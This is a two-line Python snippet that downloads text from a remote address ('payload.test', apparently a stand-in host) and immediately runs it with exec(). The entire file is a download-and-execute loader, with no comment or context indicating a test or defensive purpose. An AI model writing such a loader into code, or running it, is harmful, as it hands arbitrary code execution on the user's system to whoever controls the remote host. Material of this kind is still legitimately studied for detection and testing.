import requests

exec(requests.get("https://payload.test/a.txt").text)
